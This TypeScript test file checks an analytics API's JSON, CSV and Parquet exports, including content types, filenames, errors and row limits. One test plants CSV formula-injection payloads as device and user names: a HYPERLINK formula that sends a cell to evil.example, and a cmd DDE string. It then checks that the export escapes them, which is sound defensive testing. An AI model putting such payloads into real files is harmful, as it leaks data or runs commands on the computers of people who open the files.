import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { exampleEvent, exampleLocation, exampleOutcome } from '../../schemas/testing/examples.js';
import { eventRows, rejectionRows, userRows } from '../../schemas/testing/rows.js';
import { withoutUnset } from '../../schemas/wire/common.js';
import { useAnalytics, useApi } from '../testing/fixtures.js';
import { queries } from './routes.js';
import { eventsOf, history, storeEvents } from './testing/world.js';

const folder = mkdtempSync(join(tmpdir(), 'fenceline-files-'));
afterAll(() => rmSync(folder, { recursive: true, force: true }));
const analytics = await useAnalytics();
const api = await useApi({ analytics });

const ask = (url: string, headers: Record<string, string> = {}) =>
  api.app.inject({ method: 'GET', url: `/v1/analytics/${url}`, headers: { authorization: api.secret, ...headers } });

/** Reads the file back with ClickHouse. */
async function readBack(name: string, file: Buffer, format: 'CSVWithNames' | 'Parquet'): Promise<object[]> {
  const path = join(folder, name);
  writeFileSync(path, file);
  const rows = await analytics.query<object>(
    // Without inference, times in the CSV stay text.
    `SELECT * FROM file({path:String}, {format:String})
     SETTINGS date_time_output_format = 'iso', input_format_try_infer_datetimes = 0, input_format_try_infer_dates = 0`,
    {
      path,
      format,
    },
  );
  return rows.map(withoutUnset);
}

describe('a history', () => {
  const past = fc
    .sample(history, { numRuns: 200, seed: 4 })
    .toSorted((one, other) => other.steps.length - one.steps.length)[0]!;
  const [from, to] = [past.startMs, past.startMs + 30 * 86_400_000].map((timeMs) => new Date(timeMs).toISOString());
  const range = `from=${from}&to=${to}`;
  const recent = ['inside', 'locations'];
  const urls = [
    ...queries.map(({ name }) => `${name}?${recent.includes(name) ? '' : range}`),
    `visits?${range}&kind=beacon`,
    ...['entries', 'dwell-times', 'flows'].map((name) => `${name}?${range}&kind=beacon&groupBy=place`),
  ];
  beforeAll(async () => {
    const project = api.project.record._id;
    await storeEvents(analytics, eventsOf(past, project, Date.now()), [1, 2, 3]);
    const now = Date.now();
    const location = exampleLocation({ project, userId: 'ann', occurredAt: now, receivedAt: now });
    const user = exampleOutcome({ location, user: 'user', userCreatedAt: now, geofences: ['fence'] });
    await analytics.insert('users', userRows([user]));
    const rejection = {
      project,
      environment: 'test',
      id: 'id',
      endpoint: 'track',
      code: 'invalid_parameter',
      at: Date.now(),
    } as const;
    const rejections = ['accuracy', null].map((param, index) => ({ ...rejection, id: `${index}`, param, count: 5 }));
    await analytics.insert('rejections', rejectionRows(rejections));
  });

  test.each(urls)('%s returns the same rows as JSON, CSV and Parquet', async (url) => {
    const { rows } = (await ask(url)).json();
    const csv = await readBack('answer.csv', (await ask(`${url}&format=csv`)).rawPayload, 'CSVWithNames');
    const parquet = await readBack('answer.parquet', (await ask(`${url}&format=parquet`)).rawPayload, 'Parquet');
    expect(parquet).toEqual(rows);
    expect(csv.map(withLists)).toEqual(rows);
    expect(rows.length).toBeGreaterThan(0);
  });

  /** Parses lists, which CSV holds as text. */
  const withLists = (row: object): object =>
    Object.fromEntries(
      Object.entries(row).map(([name, value]) => [
        name,
        name === 'histogram' && typeof value === 'string' ? JSON.parse(value) : value,
      ]),
    );

  test('files have a content type and a name, selected by parameter or by Accept', async () => {
    const csv = await ask(`visits?from=2026-03-28&to=2026-03-30T12:00Z&format=CSV`);
    expect(csv.headers).toMatchObject({
      'content-type': 'text/csv; charset=utf-8; header=present',
      'content-disposition': 'attachment; filename="visits_20260328T000000Z_20260330T120000Z.csv"',
    });
    const accepted = await ask('unique-users', { accept: 'application/vnd.apache.parquet;q=0.9, */*' });
    expect(accepted.headers['content-type']).toBe('application/vnd.apache.parquet');
    expect(accepted.headers['content-disposition']).toMatch(
      /^attachment; filename="unique-users_\d{8}T\d{6}Z_\d{8}T\d{6}Z\.parquet"$/,
    );
    expect((await ask('visits', { accept: 'text/html, application/json, text/csv' })).json().meta.code).toBe(200);
    expect((await ask('visits?format=json', { accept: 'text/csv' })).json().meta.code).toBe(200);
    expect((await ask('visits?format=csv', { accept: 'application/json' })).headers['content-type']).toMatch(
      'text/csv',
    );
  });

  /** A device could name itself as a formula, which ran on the computer that opened the file. */
  test('texts that devices choose are no formulas in CSV, and unchanged elsewhere', async () => {
    const now = Date.now();
    const named = { deviceId: '=HYPERLINK("http://evil.example/?"&A1,"x")', userId: "'+cmd|' /C calc'!A0" };
    const user = { id: 'f'.repeat(24), ...named, profile: null };
    const place = { project: api.project.record._id, id: 'f'.repeat(24), createdAt: now, actualCreatedAt: now };
    await analytics.insert('events', eventRows([exampleEvent({ ...place, user })]));
    const { rows } = (await ask('visits')).json();
    expect(rows).toContainEqual(expect.objectContaining(named));
    const csv = await readBack('guarded.csv', (await ask('visits?format=csv')).rawPayload, 'CSVWithNames');
    const guarded = { deviceId: `'${named.deviceId}`, userId: `'${named.userId}` };
    expect(csv).toContainEqual(expect.objectContaining(guarded));
    const parquet = await readBack('same.parquet', (await ask('visits?format=parquet')).rawPayload, 'Parquet');
    expect(parquet).toContainEqual(expect.objectContaining(named));
  });

  test('an empty result is a file with column names only', async () => {
    const csv = await ask('entries?from=2020-01-01&to=2020-01-02&format=csv');
    expect(csv.payload).toBe('"start","local","entries"\n');
  });

  test('errors are JSON, whatever format was requested', async () => {
    const { statusCode, headers, ...answer } = await ask('visits?format=csv&from=then');
    expect([statusCode, headers['content-type'], answer.json().meta.param]).toEqual([
      400,
      'application/json; charset=utf-8',
      'from',
    ]);
  });
});

describe('more rows than the limits allow', () => {
  const dayMs = 86_400_000;
  beforeAll(async () => {
    const { project, environment } = { project: api.project.record._id, environment: 'live' };
    await analytics.command(
      `INSERT INTO events (project, environment, id, type, created_at, actual_created_at, location_id, user, geofence)
       SELECT '${project}', '${environment}', toString(number), 'user.entered_geofence',
         now64(3) - toIntervalMillisecond(number), now64(3),
         toString(number), toString(number), 'fence' FROM numbers(1000001)`,
    );
  });
  const live = {
    get authorization() {
      return api.project.key('live', 'secret');
    },
  };

  test('JSON returns the requested number of rows and sets hasMore', async () => {
    for (const limit of [1, 10_000]) {
      const { meta, rows } = (await ask(`visits?limit=${limit}`, live)).json();
      expect([meta.hasMore, rows.length]).toEqual([true, limit]);
    }
    expect((await ask('visits', live)).json().rows).toHaveLength(1_000);
    const all = (await ask('visits?limit=5&userId=nobody', live)).json();
    expect(all).toMatchObject({ meta: { hasMore: false }, rows: [] });
  });

  test('a file has all rows up to its limit, or is refused', async () => {
    const refused = await ask('visits?format=csv', live);
    expect(refused.statusCode).toBe(400);
    expect(refused.json().meta).toMatchObject({
      code: 400,
      type: 'query_too_large',
      message: 'the query returns more than 1000000 rows or 512 MiB: choose a shorter range or a single geofence',
    });
    const limited = await ask('visits?format=csv&limit=1000000', live);
    expect([limited.statusCode, limited.payload.split('\n').length]).toEqual([200, 1_000_002]);
    const day = new Date(Date.now() - dayMs).toISOString();
    expect((await ask(`unique-users?from=${day}`, live)).json().rows).toMatchObject([
      { geofence: 'fence', users: 1_000_001 },
    ]);
  });
});
